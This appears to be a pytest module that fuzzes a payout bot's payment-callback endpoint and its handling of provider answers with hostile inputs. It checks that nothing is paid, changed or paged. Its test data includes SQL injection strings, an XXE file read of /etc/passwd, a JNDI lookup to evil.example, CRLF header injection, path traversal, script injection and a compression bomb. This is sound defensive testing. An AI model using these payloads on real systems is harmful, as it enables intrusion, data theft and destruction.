"""Bodies posted to a real callback path to break something: answered, stored or refused, never believed."""

from __future__ import annotations

import json
import re
import zlib
from collections.abc import AsyncIterator
from urllib.parse import quote

import pytest
import pytest_asyncio

from bot.sandbox.slack import Message
from storage.payout import State
from tests.paying import (
    FORM,
    JSON,
    call_back,
    callback_path,
    creates_of,
    looked,
    paying,
    puppet,
    raw_call,
    state_of,
)
from tests.stage import AMINATA, CLARISSE, DAOUDA, Stage

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.thorough]

PAGES = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U0DAOUDA>",
    "<#C0SUPPORT>",
    "<https://evil.example|click>",
)
DONE = {"status": "completed", "response_code": "00"}


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def scene(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Stage]:
    """One scene for all of them."""
    async with paying(tmp_path_factory.mktemp("hostile")) as started:
        yield started


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def cards(scene: Stage) -> list[Message]:
    """A payout that stays initiated, and one that stays uncertain."""
    found = []
    for number, words in (("22670000010", "Initiated"), ("22670000016", "Unconfirmed")):
        card = await scene.ask(f"{number} 5000 refund")
        await scene.approve(card)
        await scene.card_says(card, words)
        found.append(card)
    await scene.settled()
    return found


def _bodies() -> dict[str, tuple[str, bytes]]:
    texts = {
        "nothing": "",
        "blanks": " \r\n\t ",
        "a word": "completed",
        "null": "null",
        "a number": "1e999",
        "a list": '["completed"]',
        "a list of objects": json.dumps([DONE]),
        "a text": '"completed"',
        "cut off": '{"status": "completed", "tok',
        "two objects": json.dumps(DONE) * 2,
        "twice the same key": '{"status": "pending", "status": "completed"}',
        "deep lists": "[" * 30_000 + "]" * 30_000,
        "deep objects": '{"a":' * 12_000,
        "a long number": '{"status": ' + "9" * 60_000 + "}",
        "no number": '{"amount": NaN, "montant": Infinity, "status": "completed"}',
        "half a character": '{"status": "\\ud800", "token": "\\udfff"}',
        "a nul": '{"status": "completed\\u0000", "token": "a\\u0000b"}',
        "other types": json.dumps({"status": ["completed"], "token": {"a": 1}, "transaction_id": True}),
        "a prototype": json.dumps({"__proto__": DONE, "constructor": {"prototype": DONE}}),
        "a long status": json.dumps({"status": "completed" * 5_000}),
        "a long token": json.dumps({**DONE, "token": "x" * 60_000}),
        "a token with blanks": json.dumps({**DONE, "token": "a b\nc"}),
        "a token as an address": json.dumps({**DONE, "token": "https://evil.example/?a=b&c#d"}),
        "a token up the path": json.dumps({**DONE, "token": "../../../pay/v01/withdrawal/create"}),
        "a token that breaks a line": json.dumps({**DONE, "token": "x\r\nApikey: stolen\r\n\r\n"}),
        "a token of SQL": json.dumps({**DONE, "token": "';DROP\x20TABLE\x20payouts;--"}),
        "SQL": json.dumps({"status": "completed'; UPDATE payouts SET state='completed'; --"}),
        "a format": json.dumps({"status": "{payout} {0} %s %(x)s ${jndi:ldap://evil.example}"}),
        "a script": json.dumps({"status": "<script>alert(1)</script>"}),
        "right to left": json.dumps({"status": "\u202ecompleted\u2066"}),
        "much else": json.dumps({**DONE, **{f"key{number}": number for number in range(3_000)}}),
        "xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        **{f"a page {page}": json.dumps({"status": page, "token": page.replace(" ", "")}) for page in PAGES},
    }
    forms = {
        "a form of nothing": "&&&===&&&",
        "a form of many": "&".join(f"k{number}=v" for number in range(5_000)),
        "a form of the same": "&".join(["status=completed"] * 3_000),
        "a form with a page": f"status={quote('<!channel> <@U0DAOUDA>')}&token=x",
        "a form with broken signs": "status=%zz%&token=%ff%fe",
        "a form with a nul": "status=completed%00&token=%00",
        "a form of lists": "status[]=completed&status[0][]=completed&token[token]=x",
        "a form with blanks": "status=+completed+&token=+",
    }
    raw = {
        "a picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20,
        "utf-16": json.dumps(DONE).encode("utf-16"),
        "utf-32": json.dumps(DONE).encode("utf-32"),
        "a mark": b"\xef\xbb\xbf" + json.dumps(DONE).encode(),
        "no utf-8": b'{"status": "completed\xff\xfe"}',
        "nuls": b"\x00" * 50_000,
    }
    return {
        **{name: (JSON, text.encode()) for name, text in texts.items()},
        **{name: (FORM, text.encode()) for name, text in forms.items()},
        **{name: (JSON, body) for name, body in raw.items()},
        "a form in parts": (
            "multipart/form-data; boundary=x",
            b'--x\r\nContent-Disposition: form-data; name="status"\r\n\r\ncompleted\r\n--x--\r\n',
        ),
        "a type that is none": ("\u00e9/\u00e9;;; =", json.dumps(DONE).encode()),
        "a long type": ("application/" + "x" * 5_000, json.dumps(DONE).encode()),
    }


BODIES = _bodies()


async def test_there_are_enough_of_them() -> None:
    """Forty at least, all different."""
    assert 40 <= len({body for _, body in BODIES.values()})


@pytest.mark.parametrize(("content_type", "body"), BODIES.values(), ids=BODIES)
async def test_a_hostile_body(
    scene: Stage, cards: list[Message], content_type: str, body: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    """200, no traceback, nobody paged, nothing moved, nothing paid."""
    for card in cards:
        assert 200 == await call_back(scene, callback_path(scene, card), body, content_type)
    await looked(scene)
    assert [State.INITIATED, State.UNCONFIRMED] == [state_of(scene, card) for card in cards]
    assert [1, 1] == [len(creates_of(scene, card)) for card in cards]
    assert not any(record.exc_info for record in caplog.records)
    _check_nobody_paged(scene)


_OWN_LINK = re.compile(r"<https://team\.slack\.example/archives/[CG][A-Z0-9]+/p\d+\|(?:see it|P-\w{5})>")


def _check_nobody_paged(scene: Stage) -> None:
    """Nothing live stands in anything posted, but the people whom the bot itself calls, and links to its messages."""
    for message in scene.slack.all_messages():
        live = {each for each in re.findall(r"<[^>]*>", message.words) if not _OWN_LINK.fullmatch(each)}
        assert live <= {f"<@{AMINATA}>", f"<@{CLARISSE}>", f"<@{DAOUDA}>"}, message.words
        # Daouda is called in questions, and where somebody must look an uncertain one up; by nobody else.
        called = "please decide" in message.words or "is *unconfirmed*" in message.words
        assert (f"<@{DAOUDA}>" in live) is called, message.words


# What HTTP itself allows


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        (["Content-Encoding: gzip"], b"this is no gzip"),
        (["Content-Encoding: gzip"], zlib.compress(b"{}")[:5]),
        (["Content-Encoding: deflate"], zlib.compress(b"x" * 10_000_000)),
        (["Content-Encoding: br"], b"\xff\xff\xff"),
        (["Content-Encoding: none of these"], b"{}"),
        (["Content-Type: \xff\xfe"], b"{}"),
        (["Content-Type:"], b"{}"),
        (["X-Forwarded-For: 127.0.0.1", "X-HTTP-Method-Override: DELETE"], b"{}"),
        (["Transfer-Encoding: gzip"], b"{}"),
        (["Expect: 200-ok"], b"{}"),
        (["Expect: 100-continue"], b"{}"),
        (["X: " + "y" * 20_000], b"{}"),
    ],
    ids=range(12),
)
async def test_a_hostile_request(
    scene: Stage, cards: list[Message], headers: list[str], body: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    """What cannot be read is the sender's fault: never a 5xx, no traceback, and the bot goes on."""
    path = callback_path(scene, cards[0])
    status = await raw_call(scene, path, headers, body)
    assert 200 <= status < 500
    await looked(scene)
    assert State.INITIATED is state_of(scene, cards[0])
    # aiohttp itself logs what is no HTTP.
    ours = [record for record in caplog.records if "http_parser" not in str(record.exc_text)]
    assert not any(record.exc_info for record in ours)
    assert 200 == await call_back(scene, path, body)


async def test_a_sender_that_hangs_up(scene: Stage, cards: list[Message], caplog: pytest.LogCaptureFixture) -> None:
    """Half a body is no callback."""
    before = scene.rows("SELECT count(*) FROM callbacks")
    for said in (b"", b'{"status"'):
        await raw_call(scene, callback_path(scene, cards[0]), [], said, promised=100)
    assert before == scene.rows("SELECT count(*) FROM callbacks")
    assert not any(record.exc_info for record in caplog.records)
    assert 200 == await call_back(scene, callback_path(scene, cards[0]), {"status": "still here"})


# What LigdiCash itself might say


@pytest.mark.parametrize("page", [*PAGES, "`x`", "*bold*"])
async def test_a_hostile_answer(tmp_path_factory: pytest.TempPathFactory, page: str) -> None:
    """Whatever stands in its answers is shown as text: token, word, reason."""
    async with (
        puppet() as ligdicash,
        paying(tmp_path_factory.mktemp("answer"), LIGDICASH_API_URL=ligdicash.url) as scene,
    ):
        ligdicash.creation = {"response_code": "00", "token": f"{page}{page[:8]}", "response_text": page}
        ligdicash.statuses[f"{page}{page[:8]}"] = {
            "response_code": "00",
            "status": page,
            "operator_name": page,
        }
        card = await _asked(scene, "Initiated")
        await call_back(scene, ligdicash.path, {"status": page, "token": page})
        await scene.thread_says(card, "not a final status")
        ligdicash.statuses[f"{page}{page[:8]}"] = {"response_code": "00", "status": "completed"}
        await call_back(scene, ligdicash.path, {"status": "completed", "token": page})
        await scene.card_says(card, "Completed")
        await scene.settled()
        _check_nobody_paged(scene)
        refused = {"response_code": "01", "response_text": f"{page} Echec (Code02) {page}"}
        ligdicash.creation = {**refused, "description": page}
        await _asked(scene, "Refused")
        await scene.settled()
        _check_nobody_paged(scene)


async def _asked(scene: Stage, words: str) -> Message:
    card = await scene.ask("22670000000 5000 refund")
    await scene.approve(card)
    await scene.card_says(card, words)
    await scene.settled()
    return card
